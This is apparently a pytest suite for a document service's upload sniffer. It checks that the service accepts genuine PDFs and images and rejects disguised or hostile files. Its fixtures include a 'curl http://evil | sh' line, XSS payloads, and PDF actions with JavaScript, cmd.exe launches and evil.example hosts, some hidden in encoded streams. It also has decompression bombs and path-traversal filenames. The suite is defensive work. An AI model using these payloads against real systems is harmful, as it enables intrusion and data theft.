"""Upload sniffing: the type comes from the bytes, attacks are refused with the right typed error."""

from __future__ import annotations

import base64
import io
import time
import zlib

import pytest
from PIL import Image, ImageDraw, ImageFile

from backend.documents.errors import (
    ImageTooLarge,
    PdfUnverifiable,
    UnsupportedUploadType,
    UploadActiveContent,
    UploadEmpty,
    UploadMalformed,
    UploadRejected,
    UploadTooLarge,
)
from backend.documents.issuing import weasyprint_module
from backend.documents.sniffing import SniffedFile, sanitize_display_name, sniff_upload

MAX_BYTES = 20 * 1024 * 1024


# -- samples ------------------------------------------------------------------------------------------


def picture(mode: str = "RGB", size: tuple[int, int] = (64, 48)) -> Image.Image:
    image = Image.new(mode, size, "white")
    ImageDraw.Draw(image).ellipse((4, 4, size[0] - 4, size[1] - 4), fill="black")
    return image


def encoded(image: Image.Image, image_format: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, image_format, **options)
    return buffer.getvalue()


def pdf_from_pillow() -> bytes:
    return encoded(picture(), "PDF")


def handmade_pdf(*objects: bytes, trailer: bytes = b"<< /Root 1 0 R >>") -> bytes:
    """A small well-formed PDF (one blank page, a correct cross-reference table) whose catalog is object 1 and
    whose other objects, numbered from 3, are given as bodies."""
    page_number = len(objects) + 3
    body = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page_number,
        *objects,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, content in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj " % number + content + b" endobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = trailer.replace(b"<<", b"<< /Size %d" % (len(body) + 1), 1)
    return out + b"trailer " + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % xref


def object_stream(objects: bytes, *, encode=zlib.compress, filters: bytes = b"/FlateDecode") -> bytes:
    """An object stream holding `objects` (numbered 10), encoded with `encode`."""
    header = b"10 0 "
    content = encode(header + objects)
    return (
        b"<< /Type /ObjStm /N 1 /First %d /Filter [%s] /Length %d >>\nstream\n" % (len(header), filters, len(content))
        + content
        + b"\nendstream"
    )


def zlib_with_leading_padding(content: bytes, empty_blocks: int) -> bytes:
    """A valid zlib stream that starts with many empty stored blocks (lots of input, no output), then
    `content` compressed."""
    deflate = zlib.compressobj(wbits=-15)
    compressed = deflate.compress(content) + deflate.flush()
    raw = b"\x00\x00\x00\xff\xff" * empty_blocks + compressed
    return b"\x78\x01" + raw + zlib.adler32(content).to_bytes(4, "big")


# -- accepted files -------------------------------------------------------------------------------------


def test_pdf_is_recognised() -> None:
    assert sniff_upload(pdf_from_pillow(), max_bytes=MAX_BYTES) == SniffedFile("application/pdf", "pdf")


def test_pdf_with_plain_object_stream_is_accepted() -> None:
    data = handmade_pdf(object_stream(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://x) >> >>"))

    assert sniff_upload(data, max_bytes=MAX_BYTES).media_type == "application/pdf"


def test_pdf_with_hex_encoded_image_is_accepted() -> None:
    data = encoded(picture("P"), "PDF")  # Pillow writes palette images with ASCIIHexDecode
    assert b"/ASCIIHexDecode" in data

    assert sniff_upload(data, max_bytes=MAX_BYTES).extension == "pdf"


def test_jpeg_is_recognised() -> None:
    assert sniff_upload(encoded(picture(), "JPEG"), max_bytes=MAX_BYTES) == SniffedFile("image/jpeg", "jpg")


def test_png_is_recognised() -> None:
    assert sniff_upload(encoded(picture(), "PNG"), max_bytes=MAX_BYTES) == SniffedFile("image/png", "png")


def test_little_endian_tiff_is_recognised() -> None:
    data = encoded(picture("L"), "TIFF")
    assert data.startswith(b"II*\x00")

    assert sniff_upload(data, max_bytes=MAX_BYTES) == SniffedFile("image/tiff", "tif")


def test_big_endian_tiff_is_recognised() -> None:
    data = encoded(Image.new("I;16B", (32, 24), 1000), "TIFF")
    assert data.startswith(b"MM\x00*")

    assert sniff_upload(data, max_bytes=MAX_BYTES) == SniffedFile("image/tiff", "tif")


def test_multi_page_tiff_is_recognised() -> None:
    pages = [picture("L"), picture("L", (80, 60)), picture("L", (40, 90))]
    data = encoded(pages[0], "TIFF", save_all=True, append_images=pages[1:])

    assert sniff_upload(data, max_bytes=MAX_BYTES).media_type == "image/tiff"


def test_file_of_exactly_the_limit_is_accepted() -> None:
    data = encoded(picture(), "PNG")

    assert sniff_upload(data, max_bytes=len(data)).extension == "png"


# -- refusals: size and type ---------------------------------------------------------------------------


def assert_names_the_file_field(error: UploadRejected) -> None:
    [field] = error.fields
    assert field.loc == ("body", "file")
    chinese, _, english = field.msg.partition(" / ")
    assert not chinese.isascii() and english
    assert error.detail.startswith("文件：")


def test_empty_file_is_refused() -> None:
    with pytest.raises(UploadEmpty) as raised:
        sniff_upload(b"", max_bytes=MAX_BYTES)

    assert raised.value.status_code == 422
    assert_names_the_file_field(raised.value)


def test_file_over_the_limit_is_refused_before_it_is_parsed() -> None:
    data = encoded(picture(), "PNG")

    with pytest.raises(UploadTooLarge) as raised:
        sniff_upload(data, max_bytes=len(data) - 1)

    assert raised.value.status_code == 413
    assert_names_the_file_field(raised.value)


def test_limit_is_shown_in_megabytes() -> None:
    with pytest.raises(UploadTooLarge) as raised:
        sniff_upload(b"x" * 11, max_bytes=10)
    assert "10 字节" in raised.value.detail

    assert "20 MB" in UploadTooLarge(20 * 1024 * 1024).detail


@pytest.mark.parametrize(
    "data",
    [
        b"#!/bin/sh\ncurl http://evil | sh\n",  # a script renamed to 证明.pdf
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        b"\xef\xbb\xbf<html><script>alert(1)</script></html>",  # with a byte-order mark
        b"  \n%PDF-1.7\n%%EOF\n",  # a PDF header that is not at the start
        b"<html>%PDF-1.4 polyglot</html>\n%%EOF",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"PK\x03\x04" + b"\x00" * 40,  # zip / docx
        b"MZ\x90\x00" + b"\x00" * 40,  # Windows executable
        b"\x7fELF\x02\x01\x01" + b"\x00" * 40,
        b"GIF89a\x01\x00\x01\x00",
        b"RIFF\x24\x00\x00\x00WEBPVP8 ",
    ],
    ids=[
        "shell",
        "html",
        "html-bom",
        "pdf-not-at-start",
        "html-pdf-polyglot",
        "svg",
        "zip",
        "exe",
        "elf",
        "gif",
        "webp",
    ],
)
def test_files_that_are_not_an_accepted_type_are_refused(data: bytes) -> None:
    with pytest.raises(UnsupportedUploadType) as raised:
        sniff_upload(data, max_bytes=MAX_BYTES)

    assert raised.value.status_code == 415
    assert_names_the_file_field(raised.value)


def test_bmp_is_refused_although_pillow_reads_it() -> None:
    with pytest.raises(UnsupportedUploadType):
        sniff_upload(encoded(picture(), "BMP"), max_bytes=MAX_BYTES)


# -- refusals: PDFs ---------------------------------------------------------------------------------------


def test_truncated_pdf_is_refused() -> None:
    data = pdf_from_pillow()

    with pytest.raises(UploadMalformed) as raised:
        sniff_upload(data[: len(data) * 2 // 3], max_bytes=MAX_BYTES)

    assert raised.value.status_code == 422
    assert_names_the_file_field(raised.value)


def test_pdf_with_an_impossible_version_is_refused() -> None:
    with pytest.raises(UploadMalformed):
        sniff_upload(b"%PDF-9.9\n" + pdf_from_pillow()[9:], max_bytes=MAX_BYTES)


ACTIVE_OBJECTS = {
    "javascript-action": b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "escaped-name": b"<< /S /J#61vaScript /JS (app.alert(1)) >>",
    "fully-escaped-name": b"<< /S /#4A#61#76#61#53#63#72#69#70#74 /JS (x) >>",
    "launch": b"<< /S /Launch /F (cmd.exe) >>",
    "embedded-file": b"<< /Type /EmbeddedFile /Length 0 >>",
    "attachments": b"<< /EmbeddedFiles 9 0 R >>",
    "xfa-form": b"<< /Fields [] /XFA 9 0 R >>",
    "submit-form": b"<< /S /SubmitForm /F (https://evil.example/) >>",
    "remote-goto": b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) >>",
}


@pytest.mark.parametrize("active", ACTIVE_OBJECTS.values(), ids=ACTIVE_OBJECTS.keys())
def test_pdf_with_active_content_is_refused(active: bytes) -> None:
    with pytest.raises(UploadActiveContent) as raised:
        sniff_upload(handmade_pdf(active), max_bytes=MAX_BYTES)

    assert raised.value.status_code == 422
    assert_names_the_file_field(raised.value)


HIDDEN_SCRIPT = b"<< /S /JavaScript /JS (app.launchURL('https://evil.example')) >>"


def hex_encode(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def a85_encode(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


@pytest.mark.parametrize(
    ("encode", "filters"),
    [
        (zlib.compress, b"/FlateDecode"),
        (hex_encode, b"/ASCIIHexDecode"),
        (a85_encode, b"/ASCII85Decode"),
        (lambda data: hex_encode(zlib.compress(data)), b"/ASCIIHexDecode /FlateDecode"),
        (lambda data: a85_encode(zlib.compress(data)), b"/ASCII85Decode /FlateDecode"),
    ],
    ids=["flate", "hex", "a85", "hex+flate", "a85+flate"],
)
def test_script_hidden_in_an_encoded_object_stream_is_refused(encode, filters: bytes) -> None:
    data = handmade_pdf(object_stream(HIDDEN_SCRIPT, encode=encode, filters=filters))
    assert b"JavaScript" not in data

    with pytest.raises(UploadActiveContent):
        sniff_upload(data, max_bytes=MAX_BYTES)


def test_object_stream_padded_to_push_its_content_out_of_sight_is_refused() -> None:
    content = b"10 0 " + HIDDEN_SCRIPT
    padded = zlib_with_leading_padding(content, empty_blocks=20_000)
    assert zlib.decompress(padded) == content  # a reader would find the script
    assert b"JavaScript" not in padded
    stream = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream\n" + padded + b"\nendstream"

    with pytest.raises(PdfUnverifiable):
        sniff_upload(handmade_pdf(stream), max_bytes=MAX_BYTES)


def test_encrypted_pdf_is_refused() -> None:
    data = handmade_pdf(b"<< /Filter /Standard /V 2 /R 3 >>", trailer=b"<< /Root 1 0 R /Encrypt 3 0 R >>")

    with pytest.raises(PdfUnverifiable) as raised:
        sniff_upload(data, max_bytes=MAX_BYTES)

    assert "加密" in raised.value.detail and "encrypted" in raised.value.detail


def test_pdf_with_a_legacy_encoding_we_cannot_check_is_refused() -> None:
    data = handmade_pdf(b"<< /Type /ObjStm /Filter /LZWDecode /Length 1 >>\nstream\n\x80\nendstream")

    with pytest.raises(PdfUnverifiable):
        sniff_upload(data, max_bytes=MAX_BYTES)


def test_pdf_built_to_waste_decoding_time_is_refused_quickly() -> None:
    # Thousands of `stream` keywords, each followed by text that looks like ASCII85 up to the end.
    data = b"%PDF-1.7\n" + b"stream\n" * 300_000 + b"%%EOF\n"
    started = time.monotonic()

    with pytest.raises(PdfUnverifiable):
        sniff_upload(data, max_bytes=MAX_BYTES)

    assert time.monotonic() - started < 5


# -- refusals: images --------------------------------------------------------------------------------------


def test_truncated_jpeg_is_refused() -> None:
    data = encoded(picture(size=(400, 300)), "JPEG", quality=90)

    with pytest.raises(UploadMalformed) as raised:
        sniff_upload(data[: len(data) - 200], max_bytes=MAX_BYTES)

    assert raised.value.status_code == 422
    assert_names_the_file_field(raised.value)


def test_a_truncated_jpeg_is_still_refused_after_a_pdf_was_rendered() -> None:
    # WeasyPrint's import switches Pillow to accepting truncated images for the whole process.
    weasyprint_module()
    data = encoded(picture(size=(400, 300)), "JPEG", quality=90)

    assert ImageFile.LOAD_TRUNCATED_IMAGES is False
    with pytest.raises(UploadMalformed):
        sniff_upload(data[: len(data) - 200], max_bytes=MAX_BYTES)


def test_truncated_png_is_refused() -> None:
    data = encoded(picture(size=(400, 300)), "PNG")

    with pytest.raises(UploadMalformed):
        sniff_upload(data[: len(data) // 2], max_bytes=MAX_BYTES)


def test_png_with_a_corrupted_chunk_is_refused() -> None:
    data = bytearray(encoded(picture(size=(400, 300)), "PNG"))
    idat = data.index(b"IDAT")
    data[idat + 20] ^= 0xFF

    with pytest.raises(UploadMalformed):
        sniff_upload(bytes(data), max_bytes=MAX_BYTES)


def test_png_with_a_wrong_checksum_is_refused_although_its_pixels_decode() -> None:
    data = bytearray(encoded(picture(size=(400, 300)), "PNG"))
    idat = data.index(b"IDAT")
    length = int.from_bytes(data[idat - 4 : idat], "big")
    data[idat + 4 + length] ^= 0xFF  # the chunk's CRC, not its data

    with pytest.raises(UploadMalformed):
        sniff_upload(bytes(data), max_bytes=MAX_BYTES)


def test_truncated_tiff_is_refused() -> None:
    data = encoded(picture("L", (400, 300)), "TIFF")

    with pytest.raises(UploadMalformed):
        sniff_upload(data[: len(data) // 2], max_bytes=MAX_BYTES)


def test_jpeg_header_on_garbage_is_refused() -> None:
    with pytest.raises(UploadMalformed):
        sniff_upload(b"\xff\xd8\xff\xe0" + b"garbage" * 100, max_bytes=MAX_BYTES)


def test_decompression_bomb_png_is_refused() -> None:
    bomb = encoded(Image.new("1", (20_000, 20_000)), "PNG", optimize=True)
    assert len(bomb) < 100_000  # tiny on disk, 400 megapixels when decoded

    with pytest.raises(ImageTooLarge) as raised:
        sniff_upload(bomb, max_bytes=MAX_BYTES)

    assert raised.value.status_code == 413
    assert_names_the_file_field(raised.value)


def test_image_over_our_pixel_limit_is_refused_without_decoding_it(monkeypatch: pytest.MonkeyPatch) -> None:
    # 60 megapixels: below Pillow's own bomb limit (89), above ours (50).
    data = encoded(Image.new("1", (10_000, 6_000)), "PNG", optimize=True)

    def refuse_to_decode(self: ImageFile.ImageFile) -> None:
        raise AssertionError("pixels were decoded before the size check")

    monkeypatch.setattr(ImageFile.ImageFile, "load", refuse_to_decode)

    with pytest.raises(ImageTooLarge):
        sniff_upload(data, max_bytes=MAX_BYTES)


def test_pixel_limit_is_a_parameter() -> None:
    data = encoded(picture(size=(100, 100)), "PNG")

    assert sniff_upload(data, max_bytes=MAX_BYTES, max_pixels=10_000).extension == "png"
    with pytest.raises(ImageTooLarge):
        sniff_upload(data, max_bytes=MAX_BYTES, max_pixels=9_999)


def test_tiff_with_a_huge_later_page_is_refused() -> None:
    small = Image.new("1", (10, 10))
    huge = Image.new("1", (9_000, 9_000))  # 81 megapixels on page 2
    data = encoded(small, "TIFF", save_all=True, append_images=[huge], compression="group4")
    assert len(data) < 1_000_000

    with pytest.raises(ImageTooLarge):
        sniff_upload(data, max_bytes=MAX_BYTES)


# -- display names -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("证明.pdf", "证明.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\x\\y.pdf", "y.pdf"),
        ("/var/tmp/scan 01.tif", "scan 01.tif"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ("..", "file"),
        ("../", "file"),
        ("", "file"),
        ("   ", "file"),
        ("\x00\x01", "file"),
        ("a\x00b\r\n.pdf", "ab .pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # right-to-left override removed
        (".bashrc", "bashrc"),
        ("report.pdf. . ", "report.pdf"),
        ('a<b>:"c"|?*.pdf', "a_b___c____.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("tab\tand\u3000ideographic  space.pdf", "tab and ideographic space.pdf"),
    ],
)
def test_display_names_are_sanitised(given: str, expected: str) -> None:
    assert sanitize_display_name(given) == expected


def test_long_display_name_is_cut_to_120_characters_keeping_the_extension() -> None:
    name = sanitize_display_name("流动人口婚育证明" * 30 + ".pdf")

    assert len(name) == 120
    assert name.endswith(".pdf")
    assert name.startswith("流动人口婚育证明")


def test_long_display_name_without_extension_is_cut_to_120_characters() -> None:
    assert sanitize_display_name("x" * 500) == "x" * 120


def test_non_text_display_name_falls_back_to_file() -> None:
    assert sanitize_display_name(None) == "file"  # type: ignore[arg-type]
